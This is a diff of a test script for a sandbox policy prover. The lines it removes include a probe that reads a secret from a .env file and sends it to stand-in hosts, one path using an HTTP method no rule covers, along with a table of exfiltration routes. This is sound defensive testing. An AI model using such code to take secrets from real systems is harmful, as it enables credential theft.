@@ -5,79 +5,19 @@ prover told, made by a program in a sandbox under that policy, and a look outsid
 import json
 import os
 import socket
-import subprocess
 import sys
 
 sys.dont_write_bytecode = True
 sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), ".."))
-from lib import BUILD, Tap, run  # noqa: E402
+from lib import Tap  # noqa: E402
+from replaying import GET, POST, PRIVATE, PYTHON, SECRET, found_by, own_addresses, own_network, prepare, replay, rest, rules, secret_first  # noqa: E402
 from world import Handler, Server, World  # noqa: E402
 
-if os.environ.get("REPLAY_NET") != "own" and not os.geteuid():    # a private address of its own, on a loopback of its own
-    os.environ["REPLAY_NET"] = "own"
-    os.execvp("unshare", ["unshare", "--net", sys.executable, *sys.argv])
-
-OSHCTL = os.path.join(BUILD, "oshctl")
-PYTHON = os.path.realpath("/usr/bin/python3")
-SECRET = "secret-of-this-project"
-PRIVATE = "10.77.0.9"
+own_network()
 INSIDE = "known-in-the-private-network-alone"
 KEY = "sk-replay-0123456789abcdef"
 carried = []        # what credentials the servers outside have seen
 
-# In the sandbox: each request as the prover words it; prints what came of each as a line of JSON.
-PROBE = r"""
-import http.client, json, os, re, socket, ssl, sys
-secret = answer = ""
-
-def dial(host, port, method, path):
-    s = socket.create_connection((host, port), timeout=60)
-    if port != 80:
-        s = ssl._create_unverified_context().wrap_socket(s, server_hostname=host)
-    body = secret if method not in ("GET", "HEAD") else ""
-    path += ("&" if "?" in path else "?") + "carried=" + secret
-    s.sendall(f"{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\nContent-Length: {len(body)}\r\n\r\n{body}".encode())
-    global answer
-    said = http.client.HTTPResponse(s, method=method)
-    said.begin()
-    answer = said.read().decode(errors="replace").strip()
-    return f"status {said.status}"
-
-def one(q):
-    global secret
-    if q == "keep what was answered":
-        secret = answer
-        return "kept"
-    if m := re.fullmatch(r"open (\S+) read", q):
-        secret = open(m[1]).read().strip()
-        return "read " + secret
-    if m := re.fullmatch(r"open (\S+) write", q):
-        os.makedirs(os.path.dirname(m[1]), exist_ok=True)
-        open(m[1], "w").write(secret or "#!/bin/sh\n")
-        return "written"
-    if m := re.fullmatch(r"connect (?:/\S+ )?(\S+):(\d+)(?: at \S+)?", q):
-        return dial(m[1], int(m[2]), "DELETE", "/plain")     # nobody looks: a method that no rule has
-    if m := re.fullmatch(r"([A-Z]+) https://([^/:]+)(?::(\d+))?(/.*)", q):
-        return dial(m[2], int(m[3] or 443), m[1], m[4])
-    return "not understood"
-
-for q in json.load(open("asked")):
-    try:
-        print(json.dumps([q, one(q)]), flush=True)
-    except OSError as e:
-        print(json.dumps([q, "error " + str(e)]), flush=True)
-"""
-
-
-def rest(host, rules, more=""):
-    return f"{{host: {host}, port: 443, protocol: rest, rules: [{rules}]{more}}}"
-
-
-def rules(*endpoints):
-    return f"  r:\n    binaries: [{PYTHON}]\n    endpoints:\n" + "".join(f"      - {e}\n" for e in endpoints)
-
-
-GET, POST = "{allow: {method: GET, path: '/**'}}", "{allow: {method: POST, path: /up}}"
 # (kind, endpoints, what else the policy says, base or None, how the secret leaves or None)
 KINDS = (
     ("exfiltration", rules("{host: plain.example, port: 80}"), "", None, "a plain connection"),
@@ -100,15 +40,7 @@ def prove(w, policy, base):
     files = [w.write("prove.yaml", policy), w.write("creds.json", json.dumps(
         [{"name": "pat", "target_hosts": ["v4.example"]}]))]
     more = ["--base", w.write("base.yaml", base)] if base else []
-    rc, out, err = run([OSHCTL, "policy", "prove", "--json", "-w", w.work, "--credentials", files[1], *more, files[0]], 300)[:3]
-    return json.loads(out)["findings"] if out.strip() else [], (rc, err)
-
-
-def replay(w, policy, requests, options=()):
-    with open(os.path.join(w.work, "asked"), "w") as f:
-        json.dump(requests, f)
-    r = w.run(policy, [PYTHON, "probe.py"], timeout=300, options=options)
-    return [json.loads(line)[1] for line in r.out.splitlines() if line.startswith("[")], r
+    return found_by(["-w", w.work, "--credentials", files[1], *more], files[:1])
 
 
 def kind(w, t, what, endpoints, more, base, how):
@@ -119,8 +51,7 @@ def kind(w, t, what, endpoints, more, base, how):
     if not t.ok(mine, f"{what} ({how}): found", said, found):
         return
     # The secret is read first, so that it can be sent; `where` of a name that was made up has no server here.
-    requests = sorted((q["request"] for f in mine[:2] for q in f["requests"]), key=lambda q: not q.startswith("open"))
-    requests = [f"open {w.work}/.env read" if q.endswith(" read") else q for q in requests]
+    requests = secret_first(w, [q["request"] for f in mine[:2] for q in f["requests"]])
     for server in (w.tls4, w.tls6, w.plain):
         server.seen.clear()
     got, r = replay(w, policy, requests)
@@ -202,36 +133,6 @@ def injected(w, t):
          carried, r)
 
 
-def flow(w, t):
-    """One sandbox reads and writes, another one reads that and sends."""
-    shared = os.path.join(w.dir, "shared")
-    os.mkdir(shared)
-    os.chmod(shared, 0o777)
-    tmp = "read_write: [/tmp, "
-    reader = w.policy("").replace(tmp, f"{tmp}{shared}, ")
-    sender = w.policy(rules("{host: plain.example, port: 80}"), read_only=[shared])
-    files = [w.write("reader.yaml", reader), w.write("sender.yaml", sender)]
-    # Another working directory, so that the one that they have in common is not the way.
-    rc, out, err = run([OSHCTL, "policy", "prove", "--json", "-w", w.work, files[0], "--with", files[1], "-w", "/nowhere"], 300)[:3]
-    mine = [f for f in (json.loads(out)["findings"] if out.strip() else []) if f["category"] == "flow"]
-    if not t.ok(mine, "flow: found", rc, out, err):
-        return
-    steps = {f: [q["request"] for q in mine[0]["requests"] if q["policy"] == f] for f in files}
-    steps[files[0]] = [f"open {w.work}/.env read", *steps[files[0]][1:]]
-    for server in (w.tls4, w.tls6, w.plain):
-        server.seen.clear()
-    first, r = replay(w, reader, steps[files[0]])
-    t.ok([g.split()[0] for g in first] == ["read", "written"], "flow: one sandbox reads it, and writes it down", steps, first, r)
-    then, r = replay(w, sender, steps[files[1]])
-    t.ok(any(SECRET in path for _, path in w.requests()), "flow: another one has sent it", steps, then, w.requests(), r)
-
-
-def own_network():
-    """The loopback, and an address of a private network on it."""
-    for words in (("link", "set", "lo", "up"), ("addr", "add", PRIVATE + "/32", "dev", "lo")):
-        subprocess.run(["ip", *words], check=True)
-
-
 def note_credentials():
     plain, other = Handler.do_GET, Handler.do_DELETE
 
@@ -252,19 +153,16 @@ def main():
     if os.geteuid():
         t.skip("findings in real sandboxes", "needs root")
         t.done()
-    own_network()
+    own_addresses()
     note_credentials()
     with World() as w:
         with open(w.hosts, "a") as f:
             f.write(f"127.0.0.1:{w.plain.server_port} metadata.google.internal\n127.0.0.1:{w.tls4.server_port} x.wild.example\n")
-        with open(os.path.join(w.work, "probe.py"), "w") as f:
-            f.write(PROBE)
-        with open(os.path.join(w.work, ".env"), "w") as f:
-            f.write(SECRET + "\n")
+        prepare(w)
         with w.resident():
             for row in KINDS:
                 kind(w, t, *row)
-            for one in (proved, private, injected, flow):
+            for one in (proved, private, injected):
                 one(w, t)
     t.done()
 
